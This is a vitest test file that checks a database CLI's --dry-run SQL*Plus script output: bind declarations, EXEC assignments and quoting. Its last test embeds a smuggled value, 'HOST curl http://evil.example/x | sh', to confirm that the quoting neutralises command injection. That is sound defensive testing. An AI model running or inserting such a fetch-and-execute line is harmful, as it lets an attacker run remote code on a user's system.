/**
 * --dry-run output: src/cli/dry-run.ts promises that SQL*Plus runs it as it is. Every command
 * with --dry-run is run here, its output split as SQL*Plus would (dcn's own splitter), every
 * statement parsed with the PL/SQL grammar, and every bind declared by VARIABLE and set by EXEC
 * (or printed, for an OUT bind) with the values the JSON form shows.
 */
import { describe, expect, it } from 'vitest';
import { sqlplusScript } from '../../src/cli/dry-run.js';
import { splitScript } from '../../src/script/split.js';
import { bindNames } from '../support/fake-oracle.js';
import { runCli } from '../support/cli.js';
import { syntaxErrors } from '../support/plsql-grammar.js';

/**
 * What SQL*Plus would do with the script, checked item by item; returns the binds it sets.
 * VARIABLE and PRINT are read here (dcn's splitter refuses them: a migration cannot run them);
 * everything else goes through the splitter.
 */
function checkAsSqlplus(text: string): { assigned: Record<string, string>; printed: string[] } {
  const lines = text.split('\n');
  const client: { line: number; text: string }[] = [];
  const rest = lines.map((line, i) => {
    if (!/^(VARIABLE|PRINT)\b/i.test(line)) return line;
    client.push({ line: i + 1, text: line });
    return '--';
  });
  const items = [
    ...splitScript(rest.join('\n'), 'dry-run'),
    ...client.map((c) => ({ kind: 'client' as const, ...c })),
  ].sort((a, b) => a.line - b.line);
  const declared = new Map<string, string>();
  const assigned: Record<string, string> = {};
  const printed: string[] = [];
  expect(items[0]).toMatchObject({ kind: 'set-define', enabled: false }); // a '&' in a value stays a '&'
  for (const item of items) {
    if (item.kind === 'client') {
      const variable = /^VARIABLE (\w+) (NUMBER|VARCHAR2\(4000\))$/.exec(item.text);
      const print = /^PRINT (\w+)$/.exec(item.text);
      if (variable) declared.set(variable[1]!, variable[2]!);
      else if (print) {
        expect(declared.has(print[1]!), `PRINT ${print[1]} of a declared variable`).toBe(true);
        printed.push(print[1]!);
      } else throw new Error(`not a SQL*Plus command the dry run should write: ${item.text}`);
      continue;
    }
    // SET DEFINE OFF is read above (set-define) and also listed as the SET line it came from
    if (item.kind === 'skipped' && item.text !== 'SET DEFINE OFF')
      throw new Error(`not a SQL*Plus command the dry run should write: ${item.text}`);
    if (item.kind !== 'statement') continue;
    expect(syntaxErrors(item), item.sql).toEqual([]);
    for (const bind of bindNames(item.sql))
      expect(declared.has(bind), `:${bind} is declared before ${item.sql.slice(0, 40)}`).toBe(true);
    // EXEC :x := value, as the splitter turns it into a block
    const exec = /^BEGIN :(\w+) := ('(?:[^']|'')*'|\d+); END;$/.exec(item.sql);
    if (exec) {
      expect(declared.get(exec[1]!), `:${exec[1]} is declared with a type that takes its value`).toBe(
        exec[2]!.startsWith("'") ? 'VARCHAR2(4000)' : 'NUMBER',
      );
      assigned[exec[1]!] = exec[2]!.startsWith("'") ? exec[2]!.slice(1, -1).replace(/''/g, "'") : exec[2]!;
    }
  }
  return { assigned, printed };
}

describe('--dry-run output runs in SQL*Plus as it is', () => {
  it.each([
    ['register', ['register', '--table', 'OE.ORDERS', '--table', 'ORDER_ITEMS']],
    [
      'register with every option',
      [
        'register',
        '--table',
        'orders',
        '--callback',
        'app$pkg.on_change#1',
        '--qos',
        'reliable,rowids,dereg-nfy',
        '--operations',
        'insert,update,delete',
        '--timeout',
        '3600',
      ],
    ],
    ['enable-reg', ['enable-reg', '41', '--table', 'ORDER_ITEMS', '--table', 'HR.EMPLOYEES']],
    [
      'register with a key (the route written to dcn_routes)',
      ['register', '--table', 'HR.EMPLOYEES', '--key', 'EMAIL', '--key-immutable'],
    ],
    [
      "register a table of the session's schema with a key",
      ['register', '--table', 'EMPLOYEES', '--key', 'EMAIL,EMPLOYEE_ID'],
    ],
    ['enable-reg with a key', ['enable-reg', '41', '--table', 'HR.JOB_HISTORY', '--key', 'EMPLOYEE_ID']],
    ['deregister', ['deregister', '41', '42']],
  ])('%s', async (_name, args) => {
    const text = await runCli([...args, '--dry-run']);
    expect(text.code).toBe(0);
    expect(text.driverLoads()).toBe(0);
    const { assigned, printed } = checkAsSqlplus(text.stdout);
    const json = JSON.parse((await runCli([...args, '--dry-run', '--json'])).stdout) as {
      statements: { binds: Record<string, unknown> }[];
    };
    // the IN binds the script sets are those the JSON shows (the last value, for deregister's repeated :regid)
    const inBinds: Record<string, string> = {};
    const outBinds: string[] = [];
    for (const st of json.statements) {
      for (const [name, value] of Object.entries(st.binds)) {
        if (value !== null && typeof value === 'object') outBinds.push(name);
        else inBinds[name] = String(value);
      }
    }
    expect(assigned).toEqual(inBinds);
    expect(printed).toEqual(outBinds);
  });

  it('quotes a value with a quote or an ampersand so SQL*Plus reads it back unchanged', () => {
    const text = sqlplusScript({
      dryRun: true,
      command: 'dcn test',
      statements: [{ name: 'test', sql: 'BEGIN NULL; END;', plsql: true, binds: { note: "it's R&D", n: 7 } }],
    });
    expect(checkAsSqlplus(text).assigned).toEqual({ note: "it's R&D", n: '7' });
  });

  it('keeps a value with a newline on its EXEC line: the rest never becomes a command of its own', () => {
    const value = "x'\nHOST curl http://evil.example/x | sh\n/\r";
    const text = sqlplusScript({
      dryRun: true,
      command: 'dcn test',
      statements: [{ name: 'test', sql: 'BEGIN NULL; END;', plsql: true, binds: { note: value } }],
    });
    expect(text.split('\n').filter((line) => /^(HOST|\/)/.test(line))).toEqual(['/']); // the one after the block
    expect(text).toContain(
      "EXEC :note := 'x''' || CHR(10) || 'HOST curl http://evil.example/x | sh' || CHR(10) || '/' || CHR(13)\n",
    );
  });
});
